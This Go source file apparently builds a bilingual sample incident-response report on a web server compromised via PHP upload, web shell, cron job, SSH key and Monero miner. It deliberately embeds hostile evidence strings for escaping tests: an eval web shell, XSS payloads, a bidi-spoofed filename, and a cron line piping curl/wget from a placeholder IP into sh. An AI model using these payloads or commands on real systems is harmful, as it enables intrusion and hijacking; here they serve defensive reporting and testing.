package report

import (
	"time"

	"github.com/yingji/yingji/internal/buildinfo"
	"github.com/yingji/yingji/internal/finding"
)

// The sample is a realistic case: a web server of a Chinese company taken
// through a PHP upload, a web shell, a cron job and an SSH key, and made to
// mine Monero. Its evidence holds the hostile text a real case carries.

const (
	sampleCustomer   = "某某科技有限公司"
	sampleCustomerEn = "Mou Mou Technology Co., Ltd."
	titleZhSuffix    = "应急响应服务处理报告及安全优化建议"
	titleEnSuffix    = "Incident Response Service Report and Security Recommendations"
)

// Hostile strings planted in the sample's evidence; the tests check that
// none reaches the output as markup.
const (
	hostileScript = `</script><script>alert("xss")</script>`
	hostilePre    = `</pre><img src=x onerror=alert(1)>`
	hostileTicks  = "echo ```` `id` ```` | sh"
	hostilePipe   = "a|b|c"
	hostileCtrl   = "GET /\x1b[31mred\x1b[0m\x00 HTTP/1.1\r\n"
	hostileBytes  = "user=\xff\xfe\xfdroot"
	hostileBidi   = "invoice\u202egpj.php"
	hostileURL    = "http://203.0.113.66:8080/x.sh"
)

var sampleZone = time.FixedZone("CST", 8*3600)

func sampleAt(day, h, m, s int) time.Time { return time.Date(2026, 3, day, h, m, s, 0, sampleZone) }

func samplePtr(t time.Time) *time.Time { return &t }

// sampleReport returns the sample in a language; the zh and en variants say
// the same thing, as the report builder would.
func sampleReport(lang string) *Report {
	tr := func(zh, en string) string {
		if lang == LangEn {
			return en
		}
		return zh
	}
	customer := tr(sampleCustomer, sampleCustomerEn)
	title := tr(customer+" "+titleZhSuffix, customer+" "+titleEnSuffix)

	tactic := func(zh, en string) string { return tr(zh, en) }
	initial, execution, persistence, c2, impact, discovery := tactic("初始访问", "Initial Access"), tactic("执行", "Execution"),
		tactic("持久化", "Persistence"), tactic("命令与控制", "Command and Control"), tactic("影响", "Impact"), tactic("发现", "Discovery")
	credAccess := tactic("凭据访问", "Credential Access")

	findings := []Finding{
		{
			Number: 1, Rule: "webshell.php.eval-request", Severity: finding.Critical, Confidence: tr("高", "high"),
			Title:       tr("Web 目录中存在 PHP 一句话木马", "PHP web shell in the web root"),
			Description: tr("upload/ 目录下的 PHP 文件执行请求参数中的代码，攻击者可借此在服务器上执行任意命令。", "A PHP file under upload/ evaluates code from a request parameter, which lets the attacker run any command on the server."),
			Attack:      []Technique{{"T1505.003", tr("Web Shell", "Web Shell")}, {"T1190", tr("利用面向公众的应用程序", "Exploit Public-Facing Application")}},
			Category:    tr("恶意程序事件 / 网页内嵌恶意代码", "Malware / web page malicious code"),
			Time:        samplePtr(sampleAt(14, 2, 13, 5)),
			Evidence: []Evidence{
				{Location: "/var/www/html/upload/" + hostileBidi, SHA256: "9f2c4d1be0e1a3f5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d",
					Excerpt: `<?php @eval($_POST["cmd"]); ?>` + "\n" + hostileScript + "\n" + hostilePre,
					Facts:   []string{"mtime=2026-03-14T02:13:05+08:00", "owner=www-data", "size=31"}},
				{Location: "/var/log/nginx/access.log:18231", Excerpt: `203.0.113.9 - - [14/Mar/2026:02:13:07 +0800] "POST /upload/` + hostileBidi + ` HTTP/1.1" 200 12 "-" "` + hostileScript + `"`,
					Facts: []string{"rhost=203.0.113.9", "status=200"}},
			},
			MoreEvidence: 14,
			Advice:       tr("立即隔离该文件并保留副本，修复上传功能的文件类型校验。", "Quarantine the file (keep a copy) and fix the file type check of the upload feature."),
			Note:         tr("已与客户确认该文件不是业务文件。", "The customer confirmed the file is not theirs."),
		},
		{
			Number: 2, Rule: "process.miner.xmrig", Severity: finding.Critical, Confidence: tr("高", "high"),
			Title:       tr("挖矿程序 xmrig 正在运行", "Miner xmrig running"),
			Description: tr("进程 kdevtmpfsi（PID 23817）为 XMRig 挖矿程序，连接矿池 pool.minexmr.example:443，CPU 占用 190%。", "Process kdevtmpfsi (PID 23817) is the XMRig miner, connected to pool.minexmr.example:443, using 190% CPU."),
			Attack:      []Technique{{"T1496", tr("资源劫持", "Resource Hijacking")}},
			Category:    tr("恶意程序事件 / 挖矿病毒事件", "Malware / coin miner"),
			Time:        samplePtr(sampleAt(14, 2, 31, 40)),
			Evidence: []Evidence{
				{Location: "pid 23817 /tmp/.X11-unix/kdevtmpfsi", SHA256: "4b1d7c0e3a2f58e1a3f5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b",
					Excerpt: hostileTicks + "\n" + hostileCtrl + hostileBytes,
					Facts:   []string{"cmdline=/tmp/.X11-unix/kdevtmpfsi -o pool.minexmr.example:443 -u 4AdUndXHHZ9pfQj27QPfcBxtMgXfLxD6xHa9BjHY3x1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdefABCDEF", "cpu=190%", "pipe=" + hostilePipe}},
			},
			Advice: tr("终止进程，删除文件，并封禁矿池域名。", "Kill the process, delete the file and block the pool's domain."),
		},
		{
			Number: 3, Rule: "persistence.cron.download", Severity: finding.High, Confidence: tr("高", "high"),
			Title:    tr("计划任务定时下载并执行脚本", "Cron job downloads and runs a script"),
			Attack:   []Technique{{"T1053.003", tr("计划任务/作业：Cron", "Scheduled Task/Job: Cron")}, {"T1105", tr("入口工具转移", "Ingress Tool Transfer")}},
			Category: tr("恶意程序事件 / 挖矿病毒事件", "Malware / coin miner"),
			Time:     samplePtr(sampleAt(14, 2, 20, 0)),
			Evidence: []Evidence{{Location: "/var/spool/cron/crontabs/www-data:1", SHA256: "c0ffee0000000000000000000000000000000000000000000000000000000001",
				Excerpt: "*/5 * * * * (curl -fsSL " + hostileURL + " || wget -q -O- " + hostileURL + ") | sh"}},
			Advice: tr("删除该计划任务。", "Remove the cron entry."),
		},
		{
			Number: 4, Rule: "ssh.authorized-key.added", Severity: finding.High, Confidence: tr("中", "medium"),
			Title:  tr("root 账号被添加了未知 SSH 公钥", "Unknown SSH key added for root"),
			Attack: []Technique{{"T1098.004", tr("账号操纵：SSH 授权密钥", "Account Manipulation: SSH Authorized Keys")}},
			Evidence: []Evidence{{Location: "/root/.ssh/authorized_keys:3",
				Excerpt: "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDf3x… mdrfckr"}},
			Advice: tr("删除该公钥并轮换 root 凭据。", "Remove the key and rotate root's credentials."),
		},
		{
			Number: 5, Rule: "auth.ssh.bruteforce", Severity: finding.Medium, Confidence: tr("高", "high"),
			Title:    tr("SSH 暴力破解", "SSH brute force"),
			Attack:   []Technique{{"T1110.001", tr("暴力破解：密码猜测", "Brute Force: Password Guessing")}},
			Category: tr("网络攻击事件 / 网络扫描窃听事件", "Network attack / scanning"),
			Evidence: []Evidence{{Location: "/var/log/auth.log", Facts: []string{"count=4120", "rhost=198.51.100.23", "users=root,admin,oracle"}}},
		},
		{
			Number: 6, Rule: "discovery.recon-commands", Severity: finding.Low,
			Title:  tr("攻击者执行了系统信息收集命令", "Attacker ran reconnaissance commands"),
			Attack: []Technique{{"T1082", tr("系统信息发现", "System Information Discovery")}},
			Evidence: []Evidence{{Location: "/var/www/.bash_history:1-4",
				Excerpt: "uname -a\ncat /etc/passwd\nid\nps aux | grep -v grep | grep -i mine"}},
		},
		{
			Number: 7, Rule: "config.php.expose-php", Severity: finding.Info,
			Title:    tr("PHP 版本信息对外暴露", "PHP version exposed"),
			Evidence: []Evidence{{Location: "/etc/php/7.4/fpm/php.ini:375", Excerpt: "expose_php = On"}},
			Advice:   tr("将 expose_php 设为 Off。", "Set expose_php to Off."),
		},
		{
			Number: 8, Rule: "process.suspicious-name", Severity: finding.Medium, Confidence: tr("低", "low"),
			Title:         tr("进程名仿冒内核线程", "Process name mimics a kernel thread"),
			Evidence:      []Evidence{{Location: "pid 991 [kworker/u8:2]"}},
			FalsePositive: true,
			Reason:        tr("经核实为客户监控代理 zabbix_agentd 的正常行为。", "Checked: the customer's monitoring agent zabbix_agentd."),
			Note:          tr("保留在附录中以备复核。", "Kept in the appendix for review."),
		},
	}

	return &Report{
		Lang: lang, Title: title, Customer: customer, Number: "YJ-2026-0315-01",
		Generated: sampleAt(15, 18, 0, 0),
		Systems: []System{
			{Name: "web-prod-01", Address: "10.20.1.15, 203.0.113.200", OS: "Debian GNU/Linux 11 (bullseye)", Role: tr("Web 服务器", "web server"), Source: tr("在线主机", "live host")},
			{Name: "db-prod-01", Address: "10.20.1.21", OS: "CentOS Linux 7.9", Role: tr("数据库服务器", "database server"), Source: tr("证据包 db-prod-01.yjb", "bundle db-prod-01.yjb")},
		},
		Window:     TimeWindow{Start: sampleAt(13, 23, 47, 12), End: sampleAt(15, 9, 2, 55)},
		WorkWindow: TimeWindow{Start: sampleAt(15, 10, 0, 0), End: sampleAt(15, 17, 30, 0)},
		Responders: []string{tr("张伟", "Zhang Wei"), tr("李娜", "Li Na")},
		Tool: ToolRecord{
			Build: buildinfo.Info{Name: "yingji", Version: "0.4.0", Commit: "0730f60a1b2c3d4e5f60718293a4b5c6d7e8f901",
				CommitAt: "2026-03-10T08:00:00Z", GoVersion: "go1.26.8", OS: "linux", Arch: "amd64",
				BinarySHA256: "aa11bb22cc33dd44ee55ff6600112233445566778899aabbccddeeff00112233"},
			RulePacks: map[string]string{
				"yara":  "1111111111111111111111111111111111111111111111111111111111111111",
				"sigma": "2222222222222222222222222222222222222222222222222222222222222222",
			},
		},
		Conclusion: tr("经分析，攻击者于 2026 年 3 月 14 日利用 Web 应用的文件上传漏洞上传一句话木马，随后植入挖矿程序并通过计划任务和 SSH 公钥维持控制。未发现数据被窃取的直接证据。",
			"The attacker used the web application's file upload on 14 March 2026 to plant a web shell, then installed a miner and kept access with a cron job and an SSH key. No direct evidence of data theft was found."),
		SeverityCounts: [5]int{2, 2, 1, 1, 1},
		Categories: []Category{
			{Code: "MPMINER", Class: tr("恶意程序事件（MP）", "Malware (MP)"), Name: tr("挖矿病毒事件", "Coin miner"), Findings: 2, Worst: finding.Critical},
			{Code: "MPWEB", Class: tr("恶意程序事件（MP）", "Malware (MP)"), Name: tr("网页内嵌恶意代码事件", "Malicious web code"), Findings: 1, Worst: finding.Critical},
			{Code: "NASCAN", Class: tr("网络攻击事件（NA）", "Network attack (NA)"), Name: tr("网络扫描窃听事件", "Scanning"), Findings: 1, Worst: finding.Medium},
		},
		Grade: Grade{Level: 4, Name: tr("一般事件（IV级）", "General (level IV)"),
			Importance: tr("一般信息系统", "ordinary system"), Loss: tr("较小的系统损失", "minor loss"), Social: tr("一般的社会危害", "general social harm"),
			Explanation: tr("受影响系统为一般信息系统，系统损失较小，未造成较大社会危害，依据 GB/T 20986-2023 定为一般事件。", "The system is ordinary, the loss minor and the social harm general, so GB/T 20986-2023 grades it general."),
			Criteria: []string{
				tr("特别重大事件：特别重要信息系统遭受特别严重的系统损失，或造成特别重大的社会危害", "Particularly major: a particularly important system suffers particularly serious loss, or particularly major social harm"),
				tr("重大事件：特别重要信息系统遭受严重的系统损失，或造成重大的社会危害", "Major: a particularly important system suffers serious loss, or major social harm"),
				tr("较大事件：重要信息系统遭受严重的系统损失，或造成较大的社会危害", "Relatively major: an important system suffers serious loss, or relatively major social harm"),
				tr("一般事件：不满足以上条件的事件", "General: none of the above"),
			}},
		AttackerTimeline: []TimelineEntry{
			{Time: sampleAt(13, 23, 47, 12), Summary: tr("SSH 暴力破解开始", "SSH brute force begins"), Detail: "198.51.100.23", Rule: "auth.ssh.bruteforce", Severity: finding.Medium, Tactic: credAccess},
			{Time: sampleAt(14, 2, 13, 5), Summary: tr("上传 Web Shell", "Web shell uploaded"), Detail: "/var/www/html/upload/" + hostileBidi, Rule: "webshell.php.eval-request", Severity: finding.Critical, Tactic: initial},
			{Time: sampleAt(14, 2, 15, 30), Summary: tr("执行系统信息收集命令", "Reconnaissance commands"), Detail: "uname -a; id", Rule: "discovery.recon-commands", Severity: finding.Low, Tactic: discovery},
			{Time: sampleAt(14, 2, 20, 0), Summary: tr("写入计划任务", "Cron job written"), Detail: hostileURL, Rule: "persistence.cron.download", Severity: finding.High, Tactic: persistence},
			{Time: sampleAt(14, 2, 22, 10), Summary: tr("添加 SSH 公钥", "SSH key added"), Detail: "/root/.ssh/authorized_keys", Rule: "ssh.authorized-key.added", Severity: finding.High, Tactic: persistence},
			{Time: sampleAt(14, 2, 31, 40), Summary: tr("挖矿程序启动", "Miner started"), Detail: hostileScript, Rule: "process.miner.xmrig", Severity: finding.Critical, Tactic: impact},
			{Time: sampleAt(14, 2, 31, 41), Summary: tr("连接矿池", "Pool connection"), Detail: "pool.minexmr.example:443", Rule: "process.miner.xmrig", Severity: finding.Critical, Tactic: c2},
			{Time: sampleAt(15, 9, 2, 55), Summary: tr("最后一次 Web Shell 访问", "Last web shell request"), Detail: "203.0.113.9", Rule: "webshell.php.eval-request", Severity: finding.Critical, Tactic: execution},
			{Time: sampleAt(15, 9, 2, 55), Summary: tr("PHP 版本暴露", "PHP version exposed"), Severity: finding.Info},
		},
		ResponderTimeline: []TimelineEntry{
			{Time: sampleAt(15, 10, 0, 0), Summary: tr("开始现场检查", "On-site check started"), Actor: tr("张伟", "Zhang Wei")},
			{Time: sampleAt(15, 10, 12, 30), Summary: tr("采集 db-prod-01 证据包", "Collected the db-prod-01 bundle"), Detail: "db-prod-01.yjb", Actor: tr("李娜", "Li Na")},
			{Time: sampleAt(15, 11, 40, 0), Summary: tr("执行 yingji triage", "Ran yingji triage"), Detail: "yingji triage --out case/ " + hostilePipe, Actor: tr("张伟", "Zhang Wei")},
		},
		Findings: findings,
		Chain: []ChainStep{
			{TacticID: "TA0006", Tactic: credAccess, Techniques: []Technique{{"T1110.001", tr("密码猜测", "Password Guessing")}}, Findings: []int{5}},
			{TacticID: "TA0001", Tactic: initial, Techniques: []Technique{{"T1190", tr("利用面向公众的应用程序", "Exploit Public-Facing Application")}}, Findings: []int{1}},
			{TacticID: "TA0002", Tactic: execution, Techniques: []Technique{{"T1059.004", "Unix Shell"}}, Findings: []int{1}},
			{TacticID: "TA0003", Tactic: persistence, Techniques: []Technique{{"T1505.003", "Web Shell"}, {"T1053.003", "Cron"}, {"T1098.004", tr("SSH 授权密钥", "SSH Authorized Keys")}}, Findings: []int{1, 3, 4}},
			{TacticID: "TA0007", Tactic: discovery, Techniques: []Technique{{"T1082", tr("系统信息发现", "System Information Discovery")}}, Findings: []int{6}},
			{TacticID: "TA0011", Tactic: c2, Techniques: []Technique{{"T1105", tr("入口工具转移", "Ingress Tool Transfer")}}, Findings: []int{3}},
			{TacticID: "TA0040", Tactic: impact, Techniques: []Technique{{"T1496", tr("资源劫持", "Resource Hijacking")}}, Findings: []int{2}},
		},
		Indicators: []Indicator{
			{Kind: "ip", Value: "203.0.113.9", Context: tr("Web Shell 访问来源", "web shell client"), First: sampleAt(14, 2, 13, 7), Last: sampleAt(15, 9, 2, 55), Count: 37, Rules: []string{"webshell.php.eval-request"}},
			{Kind: "ip", Value: "198.51.100.23", Context: tr("SSH 暴力破解来源", "SSH brute force source"), First: sampleAt(13, 23, 47, 12), Last: sampleAt(14, 1, 58, 0), Count: 4120, Rules: []string{"auth.ssh.bruteforce"}},
			{Kind: "domain", Value: "pool.minexmr.example", Context: tr("矿池", "mining pool"), Rules: []string{"process.miner.xmrig"}},
			{Kind: "url", Value: hostileURL, Context: tr("下载脚本", "script download"), Rules: []string{"persistence.cron.download"}},
			{Kind: "sha256", Value: "4b1d7c0e3a2f58e1a3f5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b", Context: "kdevtmpfsi (XMRig)"},
			{Kind: "wallet", Value: "4AdUndXHHZ9pfQj27QPfcBxtMgXfLxD6xHa9BjHY3x1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdefABCDEF", Context: "Monero"},
			{Kind: "ssh-key", Value: "SHA256:Qx1k3o5yE0Hn2Pbq8Kc8Jm4R1nW8vT3zL6aF0dG9hE4 mdrfckr"},
			{Kind: "user-agent", Value: hostileScript, Context: tr("Web Shell 客户端", "web shell client")},
		},
		Impact: []string{
			tr("web-prod-01 的 CPU 资源被挖矿程序长期占用，业务响应变慢。", "web-prod-01's CPU was taken by the miner, slowing the service."),
			tr("攻击者具有 www-data 及 root 权限，理论上可读取网站数据库配置；未发现外传证据。", "The attacker had www-data and root rights and could read the site's database settings; no exfiltration was found."),
		},
		Recommendations: []Recommendation{
			{ID: "R1", Priority: 1, Title: tr("清除恶意文件与持久化", "Remove the malware and its persistence"), Text: tr("删除 Web Shell、挖矿程序、计划任务和未知 SSH 公钥。", "Delete the web shell, the miner, the cron job and the unknown SSH key."), Because: []int{1, 2, 3, 4}},
			{ID: "R2", Priority: 1, Title: tr("修改全部凭据", "Rotate all credentials"), Text: tr("修改 root 及数据库账号口令。", "Change the root and database passwords."), Because: []int{4, 5}},
			{ID: "R3", Priority: 2, Title: tr("修复上传漏洞", "Fix the upload flaw"), Text: tr("对上传文件做类型白名单校验，上传目录禁止执行 PHP。", "Allow-list upload types and forbid PHP in the upload directory."), Because: []int{1}},
			{ID: "R4", Priority: 2, Title: tr("限制 SSH 访问", "Restrict SSH"), Text: tr("禁用口令登录，仅允许堡垒机访问。", "Disable password login; allow only the bastion host."), Because: []int{5}},
			{ID: "R5", Priority: 3, Title: tr("部署集中日志与主机监测", "Centralise logs and monitor hosts"), Text: tr("将日志发送到日志服务器并保留 180 天。", "Ship logs to a log server and keep them 180 days.")},
		},
		Hashes: []FileHash{
			{Path: "/var/www/html/upload/" + hostileBidi, SHA256: "9f2c4d1be0e1a3f5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d", Size: 31, Why: tr("PHP 一句话木马", "PHP web shell")},
			{Path: "/tmp/.X11-unix/kdevtmpfsi", SHA256: "4b1d7c0e3a2f58e1a3f5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a1b", Size: 2457600, Why: "XMRig"},
		},
		Custody: Custody{
			Source: tr("在线主机 web-prod-01；证据包 db-prod-01.yjb", "live host web-prod-01; bundle db-prod-01.yjb"),
			Bundle: "db-prod-01.yjb", BundleSHA256: "5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e",
			Members: 1834, Collected: sampleAt(15, 10, 12, 30), Collector: tr("李娜", "Li Na"),
			Verification: tr("清单与操作记录校验通过，1834 个文件哈希一致", "manifest and operation record verified; 1834 file hashes match"), Verified: true,
			OplogHead: "7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d7d", OplogRecords: 212,
		},
	}
}
